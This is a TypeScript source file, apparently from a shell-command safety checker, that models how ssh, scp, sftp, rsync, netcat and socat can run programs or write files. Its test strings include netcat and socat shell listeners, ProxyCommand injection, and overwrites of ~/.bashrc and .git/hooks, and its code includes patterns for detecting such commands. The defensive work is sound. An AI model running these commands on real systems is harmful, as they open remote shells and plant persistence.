import { parseOptions } from '../options/parse-options.ts';
import type { ProgramCall } from '../options/program-call.ts';
import { type Arg, knownArg, prefixOf, withoutPrefix, wordText } from '../words/arg.ts';
import { allOf, joinWords, refuseOptions, startsOperands, unclearStart } from './effects.ts';
import {
  refused,
  shellStdin,
  startOptions,
  stdinText,
  unknownInput,
  unknownOptions,
  writeOptions,
  writesBelow,
} from './option-effects.ts';
import type { Effect, ProgramEntry } from './program.ts';
import { splitWords } from './split-words.ts';

const sshShort = '46AaCfGgKkMNnqsTtVvXxYyB:b:c:D:E:e:F:I:i:J:L:l:m:O:o:P:p:Q:R:S:W:w:';
const copyOptions = { short: '346ABCprqTvRc:D:F:i:J:l:o:P:S:X:s:aNfb:n', long: '' };
const openssh = ['ssh', 'ssh-askpass', 'ssh-keygen', '/usr/lib/openssh', '/usr/libexec/openssh'];

/** Programs that reach other machines, such as `ssh`; a remote command is judged like a local one. */
export const remotePrograms: readonly ProgramEntry[] = [
  {
    names: ['ssh', 'slogin', 'autossh', 'hpnssh'],
    closed: openssh,
    options: { short: sshShort, stop: true },
    effects: sshEffects,
    runs: [
      ['ssh host touch x', 'touch'],
      ["ssh -p 22 u@host 'ls; touch x'", 'ls', 'touch'],
      ['ssh host -p 22 touch x', 'touch'],
      ["ssh -o ProxyCommand='touch x' host ls", 'ls', 'touch'],
      ["ssh -oProxyCommand='touch x' -N host", 'touch'],
      ["ssh -o 'proxycommand touch x' -N host", 'touch'],
      ["ssh -o PermitLocalCommand=yes -o LocalCommand='touch x' -N host", 'touch'],
      ["ssh -o KnownHostsCommand='touch x' -N host", 'touch'],
      'ssh -F ./config -N host',
      'ssh -F /tmp/x/.ssh/config -N host',
      'ssh -I ./x.so -N host',
      'ssh -E /etc/x -N host',
      'ssh -o UserKnownHostsFile=~/.bashrc -o HostKeyAlias=x -N host',
      ["ssh -o RemoteCommand='touch x' -N host", 'touch'],
      'ssh -o PKCS11Provider=./x.so -N host',
      'ssh -o "$x" -N host',
      "ssh -N -J 'h -oProxyCommand=touch' host",
      'ssh -N -oProxyJump=-oProxyCommand=touch host',
      'ssh host',
      'ssh host < script.sh',
      ["ssh host <<< 'touch x'", 'touch'],
      ["ssh host bash -s <<< 'touch x'", 'bash', 'touch'],
      'ssh host "$cmd"',
    ],
    harmless: [
      'ssh -V',
      'ssh -N -L 8080:localhost:80 host',
      ['ssh -o StrictHostKeyChecking=no -i key u@host ls -l', 'ls'],
      ["ssh host 'ls -l /var/log | head'", 'ls', 'head'],
      'ssh -T git@github.com',
      'ssh -N -J u@jump.example.com:22,ssh://second host',
      'ssh -G host',
      'ssh -o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no -N host',
      'ssh -O exit host',
    ],
  },
  {
    names: ['sshpass'],
    options: { short: 'p:f:d:e::P:vhV', stop: true },
    effects: startsOperands,
    runs: [
      ['sshpass -p x touch y', 'touch'],
      ['sshpass -e ssh host touch x', 'ssh', 'touch'],
    ],
    harmless: ['sshpass -V', ['sshpass -f pw ssh host ls', 'ssh', 'ls']],
  },
  {
    names: ['mosh'],
    options: {
      short: '46ano:p:',
      long: 'client= server= predict= port= ssh= bind-server= family= no-init no-ssh-pty experimental-remote-ip= local help version',
      stop: true,
    },
    effects: (call) => [
      ...refuseOptions({ client: 'chooses the program that runs', server: 'chooses the program that runs' })(
        call,
      ),
      ...startOptions('ssh')(call),
      ...(call.options.has('help', 'version') ? [] : remoteCommand(call, call.options.operands.slice(1))),
    ],
    runs: [
      ['mosh host touch x', 'touch'],
      ['mosh host -- touch x', 'touch'],
      'mosh --client=./x host ls',
      'mosh host',
    ],
    harmless: ['mosh --version', ['mosh host ls', 'ls']],
  },
  {
    names: ['scp', 'sftp'],
    closed: ['cp', ...openssh],
    options: copyOptions,
    effects: allOf(copySettings, sftpInput, remoteShell, lastWritten),
    runs: [
      ['scp -S touch a host:b', 'touch'],
      ["scp -o ProxyCommand='touch x' a host:b", 'touch'],
      "scp -oProxyCommand='./x' a host:b",
      'scp -F ./config a host:b',
      "scp -J 'h -oProxyCommand=touch' a host:b",
      'sftp host:x .git/hooks/',
      'sftp -S ./x host',
      ["sftp host <<< '!touch x'", 'touch'],
      ["echo '!touch x' | sftp -b - host", 'echo', 'touch'],
      'sftp -D ./server',
      'scp -D ./server a host:b',
      "tr a b <<< '!touch x' | sftp host",
      "sftp host <<< 'lls $(touch x)'",
      "sftp host <<< 'get a /root/.bashrc'",
      'scp host:evil ~/.bashrc',
      "scp 'host:$(touch x)' .",
      "sftp -s 'touch x' host",
      'scp -r host:evil/. ~',
      "sftp host <<< $'lcd /root\\nget .bashrc'",
    ],
    harmless: [
      'scp -P 22 -r dir u@host:/srv',
      'scp host:a .',
      'sftp -b batch.txt host',
      "sftp host <<< 'get a'",
      'scp -o StrictHostKeyChecking=no a host:',
    ],
  },
  {
    names: ['rsync', 'rsync-ssl'],
    closed: openssh,
    options: {
      short: 'vqcarRbudlLkKHpEXogDtNOJUASnWxmizhPC4680yef:e:B:T:M:@:s',
      long: `verbose info= debug= stderr= quiet no-motd checksum checksum-choice= archive recursive relative no-implied-dirs backup
        backup-dir= suffix= update inplace append append-verify dirs old-dirs mkpath links copy-links copy-unsafe-links safe-links munge-links
        copy-dirlinks keep-dirlinks hard-links perms executability chmod= acls xattrs owner group devices copy-devices write-devices specials
        times atimes open-noatime crtimes omit-dir-times omit-link-times super fake-super sparse preallocate dry-run whole-file
        one-file-system block-size= rsh= rsync-path= existing ignore-existing remove-source-files del delete delete-before delete-during
        delete-delay delete-after delete-excluded ignore-missing-args delete-missing-args ignore-errors force max-delete= max-size= min-size=
        max-alloc= partial partial-dir= delay-updates prune-empty-dirs numeric-ids usermap= groupmap= chown= timeout= contimeout=
        ignore-times size-only modify-window= temp-dir= fuzzy compare-dest= copy-dest= link-dest= compress compress-choice= zc= zl=
        compress-level= skip-compress= cvs-exclude filter= exclude= exclude-from= include= include-from= files-from= from0 old-args
        secluded-args protect-args trust-sender copy-as= address= port= sockopts= blocking-io outbuf= stats 8-bit-output human-readable progress itemize-changes
        remote-option= out-format= log-file= log-file-format= password-file= early-input= list-only bwlimit= stop-after= stop-at= fsync write-batch=
        only-write-batch= read-batch= protocol= iconv= checksum-seed= ipv4 ipv6 version help daemon config= detach no-detach server sender inc-recursive i-r old-d insecure-links confine-root drop-D cc= ignore-non-existing compress-threads= zt= no-D no-W D W g o p r t v z i h l R u`.replace(
        /\s+/g,
        ' ',
      ),
      negatable: true,
    },
    effects: allOf(
      unknownOptions,
      startOptions('e', 'rsh'),
      ({ options }) => options.values('rsync-path').map((text) => ({ does: 'shell', text }) as const),
      refuseOptions({
        daemon: 'starts a server that may run programs',
        config: 'chooses settings that run programs',
        server: 'starts a server',
        M: 'passes options on that may run programs',
        'remote-option': 'passes options on that may run programs',
      }),
      writeOptions('log-file', 'write-batch', 'only-write-batch'),
      ({ options }) => options.values('backup-dir', 'partial-dir', 'temp-dir', 'T').flatMap(writesBelow),
      remoteShell,
      lastWritten,
    ),
    runs: [
      ["rsync -e 'touch x' a host:b", 'touch'],
      ['rsync -ave touch a host:b', 'touch'],
      ['rsync --rsh=\'sh -c "touch x"\' a host:b', 'sh', 'touch'],
      ["rsync -av --rsync-path='touch x' a host:b", 'touch'],
      ["rsync -e 'ssh -p 22' a host:b", 'ssh'],
      ["rsync -e 'ssh -o ProxyCommand=touch' a host:b", 'ssh', 'touch'],
      'rsync -e "$x" a host:b',
      'rsync evil ~/.bashrc',
      'rsync --daemon --config=x',
      'rsync -a x .git/hooks/',
      'rsync -ab --backup-dir=.git/hooks a/ b/',
      'rsync -T .git a b',
      'rsync -a host:evil/ ~',
    ],
    harmless: [
      'rsync -avz --delete src/ host:/srv/app/',
      'rsync -a src/ dst/',
      "rsync -av --exclude='*.o' --exclude=.git a b",
      ["rsync -avz -e 'ssh -i key' a host:b", 'ssh'],
      'rsync -n -a --progress a b',
      'rsync -ab --backup-dir=old a/ b/',
      'rsync --partial-dir=.rsync-partial a host:b',
    ],
  },
  {
    names: ['ssh-keygen', 'ssh-add', 'ssh-copy-id'],
    closed: openssh,
    open: ['ssh-copy-id'],
    options: {
      short: 'a:b:C:D:E:F:f:g:I:i:K:k:L:l:M:m:N:n:O:o:P:p:q:Q:R:r:s:S:t:T:U:u:V:w:W:Y:y:Z:z:',
      long: '',
    },
    effects: ({ args, name, self }) => {
      const loads =
        name === 'ssh-keygen' ? /^-[a-zA-Z]*[Dw]/ : name === 'ssh-add' ? /^-[a-zA-Z]*[seS]/ : /^-(?:o|F)/;
      const at = args.find((arg) => loads.test(prefixOf(arg)) && !/^-[tfbCNP]./.test(prefixOf(arg)));
      const writes = args.flatMap((arg, index): Effect[] => {
        const path = args[index - 1]?.text === '-f' ? arg : undefined;
        const isKey = /(?:^|\/)\.ssh\/[\w.-]*(?:id|key|rsa|ed25519|ecdsa)[\w.-]*$/.test(path?.text ?? '');
        const reads = args.some(({ text }) => /^-[lByeFHRi]/.test(text ?? ''));
        return path === undefined ||
          name !== 'ssh-keygen' ||
          reads ||
          (isKey && !path.text?.includes('authorized'))
          ? []
          : [{ does: 'write', path }];
      });
      return at === undefined
        ? writes
        : [
            {
              does: 'refuse',
              at,
              reason: `${name} ${at.text ?? self.text} loads code or settings from a file`,
            },
          ];
    },
    runs: [
      'ssh-keygen -D ./x.so',
      'ssh-keygen -f ~/.ssh/authorized_keys',
      'ssh-keygen -t rsa -f .git/hooks/post-commit',
      'ssh-add -s ./x.so',
      'ssh-keygen -t ed25519-sk -w ./x.so',
      'ssh-copy-id -o ProxyCommand=touch host',
    ],
    harmless: [
      "ssh-keygen -t ed25519 -N '' -f key",
      'ssh-add -l',
      "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''",
      'ssh-add key',
      'ssh-keygen -lf key.pub',
      'ssh-copy-id -i key host',
      'ssh-keygen -R host',
    ],
  },
  {
    names: ['ssh-agent'],
    options: { short: 'cskDda:E:O:P:t:', stop: true },
    effects: startsOperands,
    runs: [
      ['ssh-agent touch x', 'touch'],
      ['ssh-agent -a sock touch x', 'touch'],
      "ssh-agent bash -c 'touch x'",
    ],
    harmless: ['ssh-agent', 'ssh-agent -s', 'ssh-agent -k', ['ssh-agent ls', 'ls']],
  },
  {
    names: ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd'],
    closed: [],
    options: {
      short: '46bCDdFhklNnrStUuvZze:c:g:G:I:i:m:M:O:o:P:p:q:s:T:V:w:W:X:x:',
      long: 'exec= sh-exec= lua-exec= listen keep-open output= hex-dump= proxy= proxy-type= source= source-port= wait= idle-timeout= ssl ssl-cert= ssl-key= verbose udp allow= deny= send-only recv-only version help',
    },
    effects: allOf(
      ({ options, name }) =>
        options
          .values('e', 'exec')
          .map(
            (value): Effect =>
              name === 'nc.openbsd'
                ? { does: 'write', path: value }
                : { does: 'start', argv: splitWords(value), stdin: 'none' },
          ),
      ({ options, name }) =>
        options
          .values('c', 'sh-exec')
          .map((text): Effect => ({ does: 'shell', text }) as const)
          .filter(() => name !== 'nc.openbsd'),
      refuseOptions({ 'lua-exec': 'runs a Lua program' }),
      writeOptions('o', 'output', 'hex-dump'),
      shellsOnConnection,
    ),
    runs: [
      ['nc -l -p 4444 -e touch', 'touch'],
      'nc -e /bin/sh host 4444',
      'nc -lvp 4444 -e /bin/bash',
      ["nc -c 'touch x' host 1", 'touch'],
      ["ncat --sh-exec 'touch x' host 1", 'touch'],
      ['ncat -l 1 --exec touch', 'touch'],
      'ncat --lua-exec x.lua host 1',
      "ncat --exec '/bin/bash -i' host 1",
    ],
    harmless: ['nc -zv host 80', 'nc -l 4444', 'nc -w 2 host 80', 'ncat --listen 80'],
  },
  {
    names: ['socat'],
    closed: [],
    effects: socatEffects,
    runs: [
      ['socat TCP-LISTEN:1,fork EXEC:touch', 'touch'],
      ["socat - EXEC:'touch x',pty", 'touch'],
      ["socat TCP:host:1 SYSTEM:'touch x'", 'touch'],
      "socat TCP-LISTEN:1 EXEC:'/bin/bash -li'",
      ['socat - exec:touch', 'touch'],
      ["socat -u FILE:x 'SHELL:touch x'", 'touch'],
      'socat - "$x"',
      'socat - "EXEC:$x"',
      'socat -u TCP:host:1 CREATE:/etc/x',
    ],
    harmless: [
      'socat TCP-LISTEN:80,fork TCP:host:8080',
      'socat -d -d - UNIX-CONNECT:/tmp/s',
      'socat -V',
      'socat "TCP-LISTEN:$port" -',
    ],
  },
];

function sshEffects(call: ProgramCall): Effect[] {
  const before = call.options;
  const after = parseOptions(before.operands.slice(1), { short: sshShort, stop: true });
  const values = (letter: string): Arg[] => [...before.values(letter), ...after.values(letter)];
  const has = (...letters: string[]): boolean => before.has(...letters) || after.has(...letters);
  const settings: Effect[] = [
    ...values('o').flatMap((option) => settingEffects(call, option)),
    ...values('F')
      .filter(
        (file) => !/^(?:none|\/dev\/null|(?:~|\/root|\/home\/[\w-]+)\/\.ssh\/config)$/.test(file.text ?? ''),
      )
      .map((file) => refused(call, '-F reads settings that may run programs from a file', file)),
    ...values('I').map((file) => refused(call, '-I loads code from a file', file)),
    ...values('J').flatMap((host) => jumpEffects(call, host)),
    ...values('E').map((path): Effect => ({ does: 'write', path })),
  ];
  const [host] = before.operands;
  if (host === undefined || has('V', 'G', 'Q', 'O')) return [...unclearStart(call), ...settings];
  if (has('N', 'W', 's')) return settings;
  const gitHost = host.text?.startsWith('git@') && after.operands.length === 0;
  return [...settings, ...unclearStart(call), ...(gitHost ? [] : remoteCommand(call, after.operands))];
}

/** ssh starts another ssh for a jump host, with the name as part of a shell command: `h -oProxyCommand=x` would be an option of it. */
function jumpEffects(call: ProgramCall, host: Arg): Effect[] {
  return host.text !== undefined && !/^(?:[\w.%+~][\w.%+~@:/[\]-]*(?:,(?=\w)|$))*$/.test(host.text)
    ? [refused(call, 'passes options to the ssh of a jump host', host)]
    : [];
}

/** `ssh` joins the words after the host and passes them to a remote shell; without any, that shell reads stdin. */
function remoteCommand(call: ProgramCall, words: readonly Arg[]): Effect[] {
  const [first] = words;
  const argv = first?.text === '--' ? words.slice(1) : words;
  if (argv.length === 0) return shellStdin(call);
  const simple = argv.every((word) => word.text !== undefined && /^[\w./:=@%+-]+$/.test(word.text));
  return simple ? [{ does: 'start', argv }] : [{ does: 'shell', text: joinWords(argv, call.self) }];
}

/** Judges one `-o` setting: `Name=value` or `Name value`. */
function settingEffects(call: ProgramCall, option: Arg): Effect[] {
  const [, name, between = ''] = /^\s*([A-Za-z0-9]+)(\s*=\s*|\s+)?/.exec(prefixOf(option)) ?? [];
  if (name === undefined) return [refused(call, '-o might choose what runs', option)];
  if (/^(?:proxycommand|localcommand|knownhostscommand|remotecommand)$/i.test(name)) {
    const text = withoutPrefix(option, prefixOf(option).indexOf(name) + name.length + between.length);
    return text.text === 'none' ? [] : [{ does: 'shell', text }];
  }
  if (/^userknownhostsfile$/i.test(name)) {
    const files = wordText(option)
      .slice(name.length + between.length)
      .split(/\s+/);
    return files
      .map((file) => file.replace(/^~(?=\/)/, call.home))
      .filter((file) => !/\/\.ssh\/known_hosts\w{0,9}$/.test(file))
      .map((file) => ({ does: 'write', path: knownArg(file, option) }));
  }
  if (/^proxyjump$/i.test(name))
    return jumpEffects(
      call,
      withoutPrefix(option, prefixOf(option).indexOf(name) + name.length + between.length),
    );
  return /^(?:pkcs11provider|securitykeyprovider|xauthlocation|include|match|smartcarddevice)$/i.test(name)
    ? [refused(call, `-o ${name} chooses code that runs`, option)]
    : [];
}

function copySettings(call: ProgramCall): Effect[] {
  const { options } = call;
  return [
    ...unknownOptions(call),
    ...options.values('o').flatMap((option) => settingEffects(call, option)),
    ...options.values('S').map((program): Effect => ({ does: 'start', argv: [program], stdin: 'none' })),
    ...options
      .values('F')
      .map((file) => refused(call, '-F reads settings that may run programs from a file', file)),
    ...options.values('D').map((server) => refused(call, '-D starts a server program', server)),
    ...options.values('J').flatMap((host) => jumpEffects(call, host)),
  ];
}

/** The commands of `sftp` that run nothing on this machine. */
const sftpCommands =
  /^(?:|#.*|bye|cd|chgrp|chmod|chown|copy|cp|df|exit|get|help|lcd|lmkdir|ln|lpwd|ls|lumask|mget|mkdir|mput|progress|put|pwd|quit|reget|rename|reput|rm|rmdir|symlink|version|\?)$/;

/** `sftp` passes `!` and `lls` to a local shell. */
function sftpInput(call: ProgramCall): Effect[] {
  if (call.name !== 'sftp') return [];
  const lines = stdinText(call).split('\n');
  return [...unknownInput(call), ...lines.flatMap((line) => sftpLine(call, line))];
}

function sftpLine(call: ProgramCall, line: string): Effect[] {
  const text = line.replace(/^[\s@-]{1,9}/, '');
  if (text.startsWith('!')) return [{ does: 'shell', text: knownArg(text.slice(1), call.self) }];
  const [name = '', ...rest] = text.trim().split(/\s+/);
  if (name === 'lls') return [{ does: 'shell', text: knownArg(`ls ${rest.join(' ')}`, call.self) }];
  if (name === 'lcd') return rest.slice(0, 1).flatMap((folder) => writesBelow(knownArg(folder, call.self)));
  if (!sftpCommands.test(name.toLowerCase())) return [refused(call, `would run the command ${name}`)];
  const target = /^(?:re|m)?get$/i.test(name)
    ? rest.filter((word) => !word.startsWith('-')).at(1)
    : undefined;
  return target === undefined ? [] : [{ does: 'write', path: knownArg(target, call.self) }];
}

/** `scp`, `sftp` and `rsync` write their last operand if it is local. */
function lastWritten({ options }: ProgramCall): Effect[] {
  const { operands } = options;
  const target = operands.at(-1);
  if (target === undefined || operands.length < 2) return [];
  if (/^[^/]+:/.test(prefixOf(target))) return [];
  const sources = operands.slice(0, -1);
  const below = sources.flatMap((source) => source.text?.split(/[/:]/).at(-1) || []);
  // A source such as `src/` or `src/.` means the files in it, whose names are not known.
  const unnamed = sources.some(({ text }) => /(?:^|[/:])\.?$/.test(text ?? ''));
  return [
    { does: 'write', path: target },
    ...(unnamed ? writesBelow(target) : []),
    ...below.map(
      (file): Effect => ({
        does: 'write',
        path: {
          ...target,
          pieces: [...target.pieces, `/${file}`],
          text: target.text && `${target.text}/${file}`,
        },
      }),
    ),
  ];
}

/** `nc -e /bin/sh` gives remote callers a shell; `nc | sh` is refused when that shell is judged. */
function shellsOnConnection(call: ProgramCall): Effect[] {
  return call.options
    .values('e', 'exec', 'c', 'sh-exec')
    .filter((value) => /(?:^|\/)(?:ba|da|z|k|c|tc|fi)?sh(?:\s|$)/.test(value.text ?? ''))
    .map((value) => refused(call, 'gives remote callers a shell', value));
}

/** Judges a `socat` address: `EXEC:`, `SYSTEM:` and `SHELL:` run programs, `CREATE:` and `OPEN:` write files. */
function socatEffects(call: ProgramCall): Effect[] {
  return call.args
    .filter((arg) => !/^-[^-]/.test(prefixOf(arg)) || prefixOf(arg).includes(':'))
    .flatMap((arg): Effect[] => {
      const start = prefixOf(arg);
      if (start === '' && arg.text === undefined)
        return [{ does: 'unknown', at: arg, reason: `an address of ${call.name} cannot be known` }];
      return start.split('!!').flatMap((address) => addressEffects(call, arg, address));
    });
}

function addressEffects(call: ProgramCall, arg: Arg, address: string): Effect[] {
  const [, kind = '', rest = ''] = /^\s*([A-Za-z0-9_-]+):(.*)$/s.exec(address) ?? [];
  const value = knownArg(rest.split(',')[0] ?? '', arg);
  if (/^(?:exec|system|shell)$/i.test(kind) && arg.text === undefined)
    return [{ does: 'unknown', at: arg, reason: `what ${call.name} would run cannot be known` }];
  if (/^exec$/i.test(kind))
    return [{ does: 'start', argv: splitWords(value), stdin: { text: '', more: true } }];
  if (/^(?:system|shell)$/i.test(kind)) return [{ does: 'shell', text: value }];
  return /^(?:create|open|file|gopen|creat)$/i.test(kind) ? [{ does: 'write', path: value }] : [];
}

/** Refuses paths that the shell of the other machine would expand, and `sftp -s`, which names a program to start there. */
function remoteShell(call: ProgramCall): Effect[] {
  const paths = call.args.filter(({ text }) => /^[^/\s:-][^/\s:]{0,255}:[^\n]*[`$;&|<>(]/.test(text ?? ''));
  const servers =
    call.name === 'sftp' ? call.options.values('s').filter(({ text }) => /[\s/]/.test(text ?? '/')) : [];
  return [...paths, ...servers].map((at) => refused(call, 'would run a command on the other machine', at));
}
